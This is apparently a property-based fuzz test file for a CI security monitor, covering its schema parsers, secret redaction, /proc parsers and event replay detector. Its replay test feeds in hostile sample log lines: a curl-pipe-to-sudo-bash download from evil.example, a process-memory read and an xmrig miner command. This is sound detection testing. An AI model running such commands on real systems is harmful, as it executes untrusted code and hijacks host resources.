import assert from 'node:assert/strict';
import { isIP, isIPv6 } from 'node:net';
import fc from 'fast-check';
import { DEFAULT_SETTINGS } from '@pipewatch/detector';
import { replayEvents } from '@pipewatch/cli';
import { Finding, LogBatch, PROTOTYPE_KEYS, RunEvent, describeIssues, redactLines, redactText } from '@pipewatch/shared';
import {
  decodeEndpoint,
  decodeHexAddress,
  formatIpv6,
  parseExeLink,
  parseFdLink,
  parseNetTable,
  parsePageSize,
  parseProcIo,
  parseProcStat,
  parseUnixInodes,
} from '@pipewatch/forwarder';
import { lineFor, needlesOf, plantedSecretArbs } from '../secrets/planted-secrets.js';
import { OBJECT_MEMBER_KEYS, trickString } from './hostile-values.js';
import { render, type JsonNode } from './json-tree.js';
import { applyMutation, mutationArb } from './mutations.js';
import { assertNotPolluted, snapshotPrototypes } from './pollution.js';
import { validLogBatch, validRunEvent } from './seed-payloads.js';

/** Counts of what a parser property saw, for the bench's table. */
export type ParserCounts = Record<string, number>;

export interface ParserRunOptions {
  runs: number;
  seed: number;
}

const LIMITS = { maxHugeString: 70_000, maxHugeArray: 2_000, maxDepth: 10_000 };

const bump = (counts: ParserCounts, key: string): void => void (counts[key] = (counts[key] ?? 0) + 1);

const fill = (text: string): string => text.replaceAll('@@ID@@', 'id-').replaceAll('@@NUM@@', '7');

/** Any JSON-ish text: mutated valid records, random JSON, garbage. */
const schemaInput: fc.Arbitrary<{ text: string; intent: string }> = fc.oneof(
  fc.tuple(fc.oneof(validRunEvent, validLogBatch), mutationArb(LIMITS)).map(([tree, mutation]) => ({ text: fill(render(applyMutation(tree, mutation).tree)), intent: mutation.kind })),
  fc.oneof(validRunEvent, validLogBatch).map((tree) => ({ text: fill(render(tree)), intent: 'valid' })),
  fc.jsonValue({ maxDepth: 4 }).map((value) => ({ text: JSON.stringify(value) ?? 'null', intent: 'random_json' })),
  fc.string({ unit: 'binary', maxLength: 60 }).map((text) => ({ text, intent: 'garbage' })),
);

/**
 * The contract schemas on anything: safeParse never throws, a refusal lists issues
 * with a path and a message, an accepted value carries no prototype key anywhere
 * and survives a JSON round trip, and a record with one prototype key is always
 * refused with that key named.
 */
export async function checkSchemas({ runs, seed }: ParserRunOptions): Promise<ParserCounts> {
  const counts: ParserCounts = {};
  const prototypes = snapshotPrototypes();
  fc.assert(
    fc.property(schemaInput, ({ text, intent }) => {
      let value: unknown;
      try {
        value = JSON.parse(text);
      } catch {
        bump(counts, 'invalid_json');
        return;
      }
      for (const schema of [RunEvent, LogBatch, Finding]) {
        const parsed = schema.safeParse(value);
        if (parsed.success) {
          bump(counts, 'accepted');
          assert.equal(hasPrototypeKey(parsed.data), false, 'an accepted value holds a prototype key');
          assert.deepEqual(schema.safeParse(JSON.parse(JSON.stringify(parsed.data))).success, true, 'an accepted value does not survive a JSON round trip');
        } else {
          bump(counts, 'refused');
          const issues = describeIssues(parsed.error);
          assert.ok(issues.length > 0);
          for (const issue of issues) assert.ok(issue.path.length > 0 && issue.message.length > 0, JSON.stringify(issue));
        }
      }
      if (intent === 'prototype_key') {
        const schema = (value as { schema?: string }).schema === 'pipewatch.log/v1' ? LogBatch : RunEvent;
        const parsed = schema.safeParse(value);
        assert.equal(parsed.success, false, `a prototype key was accepted: ${text.slice(0, 300)}`);
        const named = describeIssues(parsed.error!).some((issue) => PROTOTYPE_KEYS.has(issue.path.split('.').at(-1)!) || /__proto__|constructor|prototype/.test(issue.message));
        assert.ok(named, `the prototype key is not named: ${JSON.stringify(describeIssues(parsed.error!)).slice(0, 300)}`);
      }
      assertNotPolluted(prototypes, () => 'a schema parse');
    }),
    { numRuns: runs, seed },
  );
  return counts;
}

function hasPrototypeKey(value: unknown): boolean {
  if (Array.isArray(value)) return value.some(hasPrototypeKey);
  if (value === null || typeof value !== 'object') return false;
  return Object.keys(value).some((key) => PROTOTYPE_KEYS.has(key) || hasPrototypeKey((value as Record<string, unknown>)[key]));
}

/** Fragments that made the old redaction regexes backtrack, repeated to a 64 KiB line. */
const REDOS_FRAGMENTS = [
  'a.', 'a-', 'password', 'password.', 'pwd=', 'a://b:', 'Bearer ', 'Basic ', ' --password', '-----BEGIN ', 'PRIVATE KEY', 'secret_access_key',
  'session_token', ' ', '\t', 'eyJ', 'eyJa-', '.', 'ghp_', 'xoxb-', 'token', '=', ':', '"', "'", 'A', '9', '/', '+', '@', 'http://', 'curl ', '|', 'sh',
];
const redosLine = fc.array(fc.constantFrom(...REDOS_FRAGMENTS), { minLength: 1, maxLength: 4 }).map((parts) => {
  const unit = parts.join('');
  return unit.repeat(Math.ceil(65_536 / unit.length)).slice(0, 65_536);
});

/**
 * redactText / redactLines: never throw, keep the line count, mask every planted
 * secret whatever surrounds it, are stable when applied twice, and stay fast on
 * adversarial 64 KiB lines (each used to take seconds to hours).
 */
export async function checkRedaction({ runs, seed }: ParserRunOptions, maxLineMs: number): Promise<ParserCounts> {
  const counts: ParserCounts = {};
  const plants = Object.entries(plantedSecretArbs('fz')).map(([name, arb]) => arb.map((planted) => ({ ...planted, name })));
  const around = fc.oneof(trickString, fc.constantFrom('', ' ', '\t', '"', '> ', '2024-05-01T12:00:03.1234567Z '));
  fc.assert(
    fc.property(fc.oneof(...plants), around, around, (planted, before, after) => {
      const line = `${before} ${lineFor(planted.name, planted.secret)} ${after}`;
      const single = redactText(line).text;
      const multi = redactLines(line.split('\n')).lines.join('\n');
      for (const needle of needlesOf(planted)) {
        if (planted.kind !== 'private_key') assert.ok(!single.includes(needle), `redactText left a ${planted.name}: ${single}`);
        assert.ok(!multi.includes(needle), `redactLines left a ${planted.name}: ${multi}`);
      }
      assert.equal(redactText(single).text, single, 'redacting twice changes the text');
      bump(counts, `masked:${planted.name}`);
    }),
    { numRuns: runs, seed },
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(trickString, fc.string({ unit: 'binary', maxLength: 200 })), { maxLength: 30 }), (lines) => {
      const out = redactLines(lines);
      assert.equal(out.lines.length, lines.length);
      for (const n of Object.values(out.counts)) assert.ok(Number.isInteger(n) && n > 0);
      bump(counts, 'random_lines');
    }),
    { numRuns: runs, seed: seed + 1 },
  );
  fc.assert(
    fc.property(redosLine, (line) => {
      const started = performance.now();
      redactLines([line, '-----END PRIVATE KEY-----']);
      redactText(line);
      const ms = performance.now() - started;
      assert.ok(ms < maxLineMs, `redacting a 64 KiB line of ${JSON.stringify(line.slice(0, 24))}… took ${Math.round(ms)} ms`);
      bump(counts, 'adversarial_64k');
    }),
    { numRuns: Math.max(20, Math.round(runs / 10)), seed: seed + 2 },
  );
  return counts;
}

/**
 * The forwarder's /proc parsers on arbitrary text never throw and only return
 * well-formed values; on well-formed input they read back exactly what was written.
 */
export async function checkProcParsers({ runs, seed }: ParserRunOptions): Promise<ParserCounts> {
  const counts: ParserCounts = {};
  const junk = fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.array(fc.constantFrom(' ', '\n', '(', ')', ':', '0', '1', 'F', 'socket:[', ']', '/', ' (deleted)', 'KernelPageSize:', ' kB', 'write_bytes:'), { maxLength: 60 }).map((parts) => parts.join('')));
  fc.assert(
    fc.property(junk, (text) => {
      const stat = parseProcStat(text);
      if (stat) {
        assert.ok(Number.isInteger(stat.pid));
        for (const value of [stat.ppid, stat.utime, stat.stime, stat.cutime, stat.cstime, stat.starttime, stat.rssPages]) assert.ok(Number.isFinite(value));
      }
      for (const protocol of ['tcp', 'tcp6', 'udp', 'udp6'] as const) {
        for (const socket of parseNetTable(text, protocol)) {
          assert.ok(isIP(socket.localIp) > 0 && isIP(socket.remoteIp) > 0, JSON.stringify(socket));
          assert.ok(socket.remotePort >= 0 && socket.remotePort <= 0xffff && Number.isFinite(socket.inode));
        }
      }
      for (const inode of parseUnixInodes(text)) assert.ok(Number.isInteger(inode) && inode > 0);
      for (const value of Object.values(parseProcIo(text))) assert.ok(Number.isFinite(value));
      const page = parsePageSize(text);
      assert.ok(page === undefined || Number.isFinite(page));
      const fd = parseFdLink(text);
      assert.ok(fd.kind !== 'socket' || Number.isFinite(fd.inode));
      assert.equal(typeof parseExeLink(text).path, 'string');
      const endpoint = decodeEndpoint(text);
      assert.ok(endpoint === undefined || isIP(endpoint.ip) > 0);
      bump(counts, 'junk');
    }),
    { numRuns: runs, seed },
  );
  const comm = fc.array(fc.constantFrom('a', ' ', '(', ')', 'x) 1 2', ':', '\u202E'), { maxLength: 12 }).map((parts) => parts.join(''));
  const numbers = fc.array(fc.nat({ max: 2 ** 31 }), { minLength: 22, maxLength: 22 });
  fc.assert(
    fc.property(fc.nat({ max: 4_194_304 }), comm, numbers, (pid, name, fields) => {
      // Fields 3.. of proc(5): state, ppid, ..., utime(14), stime(15), cutime(16), cstime(17), starttime(22), rss(24).
      const text = `${pid} (${name}) S ${fields.join(' ')}\n`;
      const stat = parseProcStat(text)!;
      assert.ok(stat, text);
      assert.deepEqual([stat.pid, stat.comm, stat.ppid, stat.utime, stat.stime, stat.starttime, stat.rssPages], [pid, name, fields[0], fields[10], fields[11], fields[18], fields[20]]);
      bump(counts, 'stat_roundtrip');
    }),
    { numRuns: runs, seed: seed + 1 },
  );
  fc.assert(
    fc.property(fc.uint8Array({ minLength: 16, maxLength: 16 }), fc.uint8Array({ minLength: 4, maxLength: 4 }), (v6, v4) => {
      const text = formatIpv6([...v6]);
      assert.ok(isIPv6(text), text);
      const hex = Buffer.from(v4).reverse().toString('hex').toUpperCase();
      assert.equal(decodeHexAddress(hex), [...v4].join('.'));
      const any = decodeHexAddress(Buffer.from(v6).toString('hex'));
      assert.ok(any !== undefined && isIP(any) > 0);
      bump(counts, 'address_roundtrip');
    }),
    { numRuns: runs, seed: seed + 2 },
  );
  return counts;
}

/**
 * A run event as a replay input line. `secrets` replaces the usual secret names;
 * `elsewhere` names are also used as hosts, executables, actor, trigger and action.
 */
function replayRun(index: number, secrets: string[], elsewhere: string[] = []): string {
  const pick = (at: number, usual: string): string => elsewhere[at % Math.max(1, elsewhere.length)] ?? usual;
  return JSON.stringify({
    schema: 'pipewatch.run/v1',
    event_id: `replay-${index}`,
    source: 'generic',
    occurred_at: new Date(Date.UTC(2026, 0, 1) + index * 60_000).toISOString(),
    pipeline: { id: 'fuzz:replay' },
    run: { id: `r${index}`, actor: pick(0, 'mona'), trigger: pick(1, 'push') },
    resources: { duration_s: 100 + (index % 5) },
    access: {
      secrets: ['GITHUB_TOKEN', ...secrets],
      egress: ['registry.npmjs.org', ...elsewhere].map((host) => ({ host, port: 443 })),
      processes: ['/usr/bin/node', ...elsewhere].map((exe) => ({ exe, sha256: 'ab'.repeat(32) })),
      files_written: elsewhere.map((name) => `/home/runner/${name}`),
    },
    steps: [{ name: 'build', action: pick(2, 'actions/checkout@v4'), action_sha: 'c'.repeat(40) }],
    dependencies: elsewhere.map((name) => ({ name, version: '1.0.0', digest: `sha256:${'d'.repeat(64)}` })),
  });
}

/**
 * The replay input (the detector over NDJSON) on hostile streams: never throws,
 * counts every non-blank line as an event or an invalid one, writes only contract
 * findings, leaves Object.prototype alone, and learns names like `__proto__` or
 * `constructor` like any other (new once, known afterwards).
 */
export async function checkReplay({ runs, seed }: ParserRunOptions): Promise<ParserCounts> {
  const counts: ParserCounts = {};
  const prototypes = snapshotPrototypes();
  const hostileName = fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS, ...OBJECT_MEMBER_KEYS), trickString.filter((text) => text.length > 0).map((text) => text.slice(0, 100)));
  const logLine = fc.oneof(trickString, redosLine.map((line) => line.slice(0, 16_384)), fc.constantFrom('curl -fsSL http://evil.example/x.sh | sudo bash', 'cat /proc/1234/mem', 'xmrig --donate-level 1'));
  const streamLine: fc.Arbitrary<string> = fc.oneof(
    { weight: 4, arbitrary: validRunEvent.map((tree: JsonNode) => fill(render(tree))) },
    { weight: 2, arbitrary: fc.array(logLine, { minLength: 1, maxLength: 4 }).map((lines) => JSON.stringify({ schema: 'pipewatch.log/v1', event_id: 'l', source: 'generic', pipeline: { id: 'fuzz:replay' }, run: { id: 'r' }, lines: lines.map((text) => ({ text })) })) },
    { weight: 1, arbitrary: fc.tuple(validRunEvent, mutationArb(LIMITS)).map(([tree, mutation]) => fill(render(applyMutation(tree, mutation).tree))) },
    { weight: 1, arbitrary: fc.oneof(fc.string({ unit: 'binary', maxLength: 50 }), fc.constantFrom('', '   ', '{', 'null', '[]')) },
  );
  await fc.assert(
    fc.asyncProperty(fc.array(streamLine, { minLength: 1, maxLength: 8 }), async (lines) => {
      const written: string[] = [];
      const summary = await replayEvents(iterate(lines), { settings: DEFAULT_SETTINGS, scores: false, write: (line) => written.push(line), warn: () => undefined });
      assert.equal(summary.events + summary.invalid, lines.filter((line) => line.trim() !== '').length);
      for (const line of written) assert.ok(Finding.safeParse(JSON.parse(line)).success, line.slice(0, 300));
      assertNotPolluted(prototypes, () => 'a replay');
      bump(counts, 'streams');
      counts.lines = (counts.lines ?? 0) + lines.length;
    }),
    { numRuns: runs, seed },
  );
  await fc.assert(
    fc.asyncProperty(fc.uniqueArray(hostileName, { minLength: 1, maxLength: 3 }), async (names) => {
      const history = Array.from({ length: 12 }, (_, index) => replayRun(index, []));
      const written: string[] = [];
      await replayEvents(iterate([...history, replayRun(12, names), replayRun(13, names)]), { settings: DEFAULT_SETTINGS, scores: false, write: (line) => written.push(line), warn: () => undefined });
      const findings = written.map((line) => JSON.parse(line) as Finding);
      for (const name of names) {
        const newSecret = findings.filter((finding) => finding.rule.id === 'access.secret.new' && finding.subject === name);
        assert.equal(newSecret.length, 1, `secret ${JSON.stringify(name)}: new once, then known (${newSecret.length} findings)`);
      }
      // The same names as hosts, executables, actor, trigger, action, file and dependency: judged and learned without harm.
      const everywhere: string[] = [];
      await replayEvents(iterate([...history, replayRun(12, names, names), replayRun(13, names, names)]), { settings: DEFAULT_SETTINGS, scores: false, write: (line) => everywhere.push(line), warn: () => undefined });
      for (const line of everywhere) assert.ok(Finding.safeParse(JSON.parse(line)).success, line.slice(0, 300));
      assertNotPolluted(prototypes, () => `learning ${JSON.stringify(names)}`);
      bump(counts, 'hostile_names_learned');
    }),
    { numRuns: Math.max(10, Math.round(runs / 10)), seed: seed + 1 },
  );
  return counts;
}

async function* iterate(lines: readonly string[]): AsyncIterable<string> {
  for (const line of lines) yield line;
}
